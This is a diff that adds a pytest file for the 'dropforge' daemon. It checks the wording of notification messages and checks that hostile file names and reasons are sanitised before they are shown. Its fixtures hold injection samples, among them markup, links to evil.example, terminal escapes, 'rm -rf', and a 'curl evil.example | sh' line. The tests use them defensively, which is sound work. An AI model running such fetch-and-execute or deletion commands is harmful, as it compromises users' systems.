@@ -1,0 +1,206 @@
+"""What each kind of message says, from events that the daemon's own functions left."""
+
+import html
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+from sqlmodel import col, select
+
+from daemon.messages.inert import inert
+from daemon.messages.texts import Text, text_of
+from daemon.queue import run_queue
+from daemon.settings.model import RetrySettings
+from daemon.state.database import transaction
+from daemon.state.events import record_event
+from daemon.state.states import AWAITING, DropState
+from daemon.state.tables import Drop, Event
+
+
+def told(lived_in: Any) -> list[Text]:
+    """Return what the workspace's events are told by at once."""
+    with transaction(lived_in.engine) as session:
+        events = session.exec(select(Event).order_by(col(Event.id))).all()
+        texts = [text_of(session, lived_in.settings.state_folder, event) for event in events]
+    return [text for text in texts if text is not None]
+
+
+def event(lived_in: Any, kind: str, **about: Any) -> Text:
+    """Return the message of an event that is recorded now."""
+    with transaction(lived_in.engine) as session:
+        record_event(session, kind, lived_in.tick(), **about)
+    (*_, text) = told(lived_in)
+    return text
+
+
+def test_a_promotion_says_what_was_gained_and_how_to_undo_it(lived_in: Any) -> None:
+    promoted, *_ = told(lived_in)
+    assert promoted == Text(
+        "promoted",
+        "success",
+        "[dropforge] PROMOTED: default, generation 1",
+        "better by 40.0 points, over the champion before\n"
+        "it is the model of run 1\n"
+        "the evidence: dropforge report 1\n"
+        "to go back to the model before: dropforge rollback --track default --reason TEXT",
+    )
+
+
+def test_a_rejected_drop_is_told_by_its_findings_and_no_row_of_it(lived_in: Any) -> None:
+    lived_in.take(
+        "odd.jsonl", '{"instruction": "SECRET ROW"}\n{"instruction": "SECRET", "output": 5}\n{broken SECRET\n'
+    )
+    (*_, rejected) = told(lived_in)
+    assert (rejected.level, rejected.title) == ("warning", "[dropforge] REJECTED: default, drop 7")
+    first, _owner, found, where = rejected.body.splitlines()
+    assert first == "the file: odd.jsonl"
+    assert found.startswith("3 findings in 3 rows: 1 of ")
+    assert where == "each with its line and what to do: beside the file, in rejected/"
+    assert "SECRET" not in rejected.body
+
+
+def test_a_failed_run_says_where_why_and_what_to_do(lived_in: Any) -> None:
+    failed = next(text for text in told(lived_in) if text.kind == "run_failed")
+    assert failed.title == "[dropforge] FAILED: default, run 2"
+    assert failed.body.splitlines() == [
+        "it was given up at step train, after 1 failure of its own",
+        "the last error: out of memory",
+        "more: dropforge show 2, dropforge logs 2",
+        "to go on where it stopped: dropforge retry 2",
+    ]
+
+
+def test_of_an_error_that_nobody_foresaw_its_kind_alone_is_told(new_workspace: Callable[[], Any]) -> None:
+    made = new_workspace()
+    made.take("a.jsonl", '{"instruction": "a", "output": "b"}\n')
+    claim = made.claim()
+    failure = run_queue.Failure("torch.OutOfMemoryError: row 'SECRET' is too long", "", retryable=False)
+    run_queue.fail(made.engine, claim, failure, made.tick(), RetrySettings())
+    (failed,) = told(made)
+    assert "the last error: torch․OutOfMemoryError\n" in failed.body
+    assert "SECRET" not in failed.body
+
+
+def test_a_run_whose_processes_vanish_is_told_once_it_is_given_up(new_workspace: Callable[[], Any]) -> None:
+    made = new_workspace()
+    made.take("a.jsonl", '{"instruction": "a", "output": "b"}\n')
+    claim = made.claim()
+    made.attempt(claim, "train", None)
+    run_queue.died(made.engine, claim, run_queue.Death("its process vanished"), made.tick(), RetrySettings(deaths=1))
+    (crashed,) = told(made)
+    assert crashed.title == "[dropforge] CRASHED: default, run 1"
+    assert crashed.body.startswith("at step train its processes vanished again and again\nthe last error: its process")
+
+
+def awaiting(new_workspace: Callable[[], Any]) -> tuple[Any, Any]:
+    made = new_workspace()
+    made.take("a.jsonl", '{"instruction": "a", "output": "b"}\n')
+    claim = made.claim()
+    made.attempt(claim, "decide")
+    return made, claim
+
+
+def test_a_win_that_waits_says_how_to_take_it(new_workspace: Callable[[], Any]) -> None:
+    made, claim = awaiting(new_workspace)
+    run_queue.finish(made.engine, claim, run_queue.Ending(AWAITING, "promoted: +4.0 points"), made.tick())
+    (waits,) = told(made)
+    assert (waits.level, waits.title) == ("warning", "[dropforge] WAITS FOR APPROVAL: default, run 1")
+    assert waits.body.splitlines() == [
+        "won, waits for approval (dropforge promote 1): +4.0 points",
+        "the evidence: dropforge report 1",
+        "to take it: dropforge promote 1",
+    ]
+
+
+def test_a_win_that_was_answered_meanwhile_is_not_told_any_more(new_workspace: Callable[[], Any]) -> None:
+    made, claim = awaiting(new_workspace)
+    made.promote(claim)
+    event(made, "run_succeeded", track="default", run_id=1, outcome=AWAITING)
+    assert [text.kind for text in told(made)] == ["promoted"]
+
+
+def test_a_rollback_by_the_daemon_itself_is_graver_than_a_persons(lived_in: Any) -> None:
+    detail = {"generation": 2, "reason": "rolled back to generation 0: health command failed: exit code 3"}
+    own = event(lived_in, "rolled_back", track="default", **detail, by=None)
+    assert (own.level, own.title) == ("failure", "[dropforge] ROLLED BACK: default, generation 2")
+    assert own.body == f"{detail['reason']}\nwhat serves now, and what did: dropforge history --track default"
+    asked = event(lived_in, "rolled_back", track="default", **detail, by="anna")
+    assert (asked.level, asked.body.splitlines()[0]) == ("warning", f"{detail['reason']}, asked for by anna")
+
+
+@pytest.mark.parametrize(
+    ("kind", "title", "line"),
+    [
+        ("hook_failed", "HOOK FAILED: default", "to run it again: dropforge hook --track default"),
+        ("health_failed", "UNHEALTHY: default", "the former champion is being brought back"),
+        (
+            "rollback_failed",
+            "NOT ROLLED BACK: default",
+            "dropforge rollback --track default --to GENERATION",
+        ),
+    ],
+)
+def test_trouble_with_the_server_says_what_it_means_and_what_to_do(
+    lived_in: Any, kind: str, title: str, line: str
+) -> None:
+    text = event(lived_in, kind, track="default", run_id=1, error="exit code 3")
+    assert (text.level, text.title) == ("failure", f"[dropforge] {title}")
+    assert "exit code 3" in text.body.splitlines()[0]
+    assert line in text.body
+
+
+def test_low_disk_and_a_suspended_drop_are_told(lived_in: Any) -> None:
+    low = event(lived_in, "disk_low", free_bytes=12_000_000)
+    assert low.title == "[dropforge] LOW DISK: 12.0 MB free"
+    why = "run 2 was worse with it, and so was run 3, which tried it alone: dropforge report 3"
+    suspended = event(lived_in, "drop_suspended", track="default", run_id=3, drop_id=2, reason=why)
+    assert suspended.title == "[dropforge] SUSPENDED: default, drop 2"
+    assert suspended.body.splitlines() == [
+        "the file: first.jsonl",
+        f"the reason: {why}",
+        "to train on it all the same: dropforge drops restore 2 --reason TEXT",
+    ]
+    forced = event(lived_in, "forced", track="default", run_id=2, generation=2, reason="it is urgent", by="anna")
+    assert "whatever its verdict, forced by anna\nthe reason: it is urgent" in forced.body
+
+
+def test_what_is_left_to_the_digest_is_not_told_at_once(lived_in: Any) -> None:
+    assert [text.kind for text in told(lived_in)] == ["promoted", "drop_rejected", "run_failed"]
+
+
+#: Names that are markup, a mention, a link, a command or another line somewhere.
+HOSTILE = (
+    "<!channel> <@U123> <b>x</b>.jsonl", "@everyone @here.jsonl", "[click](http://evil.example).jsonl",
+    "*bold* `code` ~s~ # head.jsonl", "https://evil.example/x", "www.evil.example", "a\nundo: rm -rf.jsonl",
+    "\x1b[2Jred\x07.jsonl", "\u202egnp.jsonl", "&lt;script&gt;", "a|b||spoiler||", "\\u0041 \\n.jsonl", "x" * 500,
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_a_hostile_name_is_words_and_nothing_else(name: str) -> None:
+    plain = inert(name)
+    assert not set(plain) & set("<>@*`[]|~#\\&\n\r\x1b\x07\u202e")
+    assert "://" not in plain
+    assert "evil.example" not in plain
+    assert html.escape(plain) == plain
+    assert len(plain) <= 160
+
+
+def test_a_hostile_file_and_reason_stay_on_their_lines(new_workspace: Callable[[], Any]) -> None:
+    made = new_workspace()
+    for name in HOSTILE[:4]:
+        made.take(name.replace("/", "_"), '{"instruction": "x"}\n')
+    texts = told(made)
+    assert [text.kind for text in texts] == ["drop_rejected"] * 4
+    for text in texts:
+        assert not set(text.body + text.title) & set("<>@*`~#\\&")
+        assert len(text.body.splitlines()) == 4
+    reason = "<!here> [x](http://evil.example)\nundo: curl evil.example | sh"
+    with transaction(made.engine) as session:
+        drop = session.get_one(Drop, 1)
+        drop.state = DropState.SUSPENDED
+        session.add(drop)
+    suspended = event(made, "drop_suspended", track="default", drop_id=1, reason=reason)
+    assert len(suspended.body.splitlines()) == 3
+    assert not set(suspended.body) & set("<>@|")
+    assert "evil.example" not in suspended.body
